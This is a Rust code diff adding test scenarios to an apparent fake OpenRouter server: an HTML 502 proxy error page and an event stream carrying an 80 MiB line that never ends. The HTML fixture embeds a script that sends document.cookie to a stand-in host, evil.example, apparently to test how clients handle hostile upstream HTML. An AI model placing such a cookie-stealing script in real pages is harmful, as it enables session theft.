@@ -69,6 +69,12 @@ pub enum Scenario {
     Status(u16),
     /// `fake/html`: status 200 with an HTML page.
     Html,
+    /// `fake/html-502`: status 502 with a proxy's HTML error page (title, style, script,
+    /// markup), [`HTML_502_PAGE`], instead of OpenRouter's JSON error.
+    Html502,
+    /// `fake/endless-line`: status 200 and an event stream whose first `data:` line never
+    /// ends: [`ENDLESS_LINE_BYTES`] bytes without a line break, then a clean end.
+    EndlessLine,
     /// `fake/responses-unsupported`: `/responses` answers 400 `unsupported_endpoint`; `/chat/completions`
     /// streams a chat answer with reasoning and a usage chunk carrying `cost`.
     ResponsesUnsupported,
@@ -157,7 +163,7 @@ pub const TOOL_ANSWER_PREFIX: &str = "tool results: ";
 
 impl Scenario {
     /// Every scenario model id, in catalogue order.
-    pub const MODEL_IDS: [&'static str; 44] = [
+    pub const MODEL_IDS: [&'static str; 46] = [
         "fake/echo",
         "fake/reasoning",
         "fake/slow",
@@ -202,12 +208,19 @@ impl Scenario {
         "fake/refusal",
         "fake/stall",
         "fake/flood",
+        "fake/html-502",
+        "fake/endless-line",
     ];
 
     /// Realistic catalogue ids the fake answers like `fake/echo`, so suites can check the
     /// provider-specific parameters the host adds for them.
-    pub const ECHOED_REALISTIC_IDS: [&'static str; 2] =
-        ["anthropic/claude-sonnet-4.5", "google/gemini-2.5-flash"];
+    pub const ECHOED_REALISTIC_IDS: [&'static str; 4] = [
+        "anthropic/claude-sonnet-4.5",
+        "google/gemini-2.5-flash",
+        // A dated version next to its undated alias, for the exact-id lookup.
+        "mistralai/mistral-small",
+        "mistralai/mistral-small-2024-09-18",
+    ];
 
     /// The scenario a model id selects, or `None` for a model the fake does not serve.
     #[must_use]
@@ -232,6 +245,8 @@ impl Scenario {
             "fake/mid-failure" => Self::MidFailure,
             "fake/error-event" => Self::ErrorEvent,
             "fake/html" => Self::Html,
+            "fake/html-502" => Self::Html502,
+            "fake/endless-line" => Self::EndlessLine,
             "fake/responses-unsupported" => Self::ResponsesUnsupported,
             "fake/effort-picky" => Self::EffortPicky,
             "fake/signature" => Self::Signature,
@@ -319,6 +334,8 @@ pub(crate) enum Step {
     Event(Value),
     /// Bytes written as they are (the SSE comment, a malformed event, a JSON body).
     Raw(String),
+    /// Bytes that are not text, or one buffer repeated (cheap to clone).
+    Bytes(bytes::Bytes),
     /// Wait before the next step.
     Pause(Duration),
     /// Abort the body with an error: no terminal event, no clean end of the chunked body.
@@ -363,6 +380,8 @@ pub(crate) fn reply(
     let script = match scenario {
         Scenario::Status(code) => return status_reply(code),
         Scenario::Html => return html_reply(),
+        Scenario::Html502 => return html_502_reply(),
+        Scenario::EndlessLine => return endless_line_reply(),
         Scenario::Echo => echo_script(&turn, false),
         Scenario::Malformed => echo_script(&turn, true),
         Scenario::Reasoning => reasoning_script(&turn),
@@ -455,6 +474,50 @@ fn status_reply(code: u16) -> Reply {
         ];
     }
     reply
+}
+
+/// The page `fake/html-502` answers with: what a proxy in front of OpenRouter sends.
+pub const HTML_502_PAGE: &str = "<!DOCTYPE html>\n<html>\n<head><title>502 Bad Gateway</title>\n\
+    <style>body { font-family: sans-serif; color: #c00 }</style>\n\
+    <script>window.location = 'https://evil.example/steal?c=' + document.cookie;</script>\n\
+    </head>\n<body>\n<center><h1>502   Bad Gateway</h1></center>\n\
+    <!-- upstream: pool-7 node-3 -->\n\
+    <hr><center>fake-proxy/1.0 &amp; friends</center>\n</body>\n</html>\n";
+
+/// Words of [`HTML_502_PAGE`] its plain-text excerpt keeps (title, heading, footer).
+pub const EXCERPT_MARKERS: [&str; 3] =
+    ["502 Bad Gateway", "fake-proxy/1.0 & friends", "Bad Gateway"];
+
+/// Bytes of the line `fake/endless-line` never ends (80 MiB).
+pub const ENDLESS_LINE_BYTES: usize = 80 << 20;
+
+fn html_502_reply() -> Reply {
+    Reply {
+        status: 502,
+        content_type: "text/html",
+        headers: Vec::new(),
+        steps: vec![Step::Raw(HTML_502_PAGE.to_owned())],
+    }
+}
+
+fn endless_line_reply() -> Reply {
+    const PIECE: usize = 1 << 20;
+    // One shared buffer, sent again and again: the fake does not hold 80 MiB.
+    let piece = bytes::Bytes::from(vec![b'a'; PIECE]);
+    let mut steps = vec![
+        Step::Raw(": OPENROUTER PROCESSING\n\n".to_owned()),
+        Step::Raw(r#"data: {"type":"response.output_text.delta","delta":""#.to_owned()),
+    ];
+    steps.extend(std::iter::repeat_n(
+        Step::Bytes(piece),
+        ENDLESS_LINE_BYTES / PIECE,
+    ));
+    Reply {
+        status: 200,
+        content_type: "text/event-stream",
+        headers: Vec::new(),
+        steps,
+    }
 }
 
 fn html_reply() -> Reply {
@@ -2457,5 +2520,43 @@ mod tests {
             reply(Scenario::ChatBridge, &body, true, &FakeConfig::default()).status,
             400
         );
+    }
+
+    #[test]
+    fn html_502_is_a_bad_gateway_page_not_json() {
+        let reply = reply(Scenario::Html502, &json!({}), true, &FakeConfig::default());
+        assert_eq!((reply.status, reply.content_type), (502, "text/html"));
+        let [Step::Raw(body)] = reply.steps.as_slice() else {
+            panic!("one body");
+        };
+        assert!(body.contains("<script>") && body.contains("502   Bad Gateway"));
+        assert!(serde_json::from_str::<Value>(body).is_err());
+    }
+
+    #[test]
+    fn endless_line_sends_its_bytes_without_a_line_break() {
+        let reply = reply(
+            Scenario::EndlessLine,
+            &json!({}),
+            true,
+            &FakeConfig::default(),
+        );
+        assert_eq!(
+            (reply.status, reply.content_type),
+            (200, "text/event-stream")
+        );
+        let mut after_data = 0usize;
+        for step in &reply.steps[1..] {
+            let bytes: &[u8] = match step {
+                Step::Raw(text) => text.as_bytes(),
+                Step::Bytes(bytes) => bytes,
+                other => panic!("unexpected step {other:?}"),
+            };
+            assert!(!bytes.contains(&b'\n') && !bytes.contains(&b'\r'));
+            if matches!(step, Step::Bytes(_)) {
+                after_data += bytes.len();
+            }
+        }
+        assert_eq!(after_data, ENDLESS_LINE_BYTES);
     }
 }
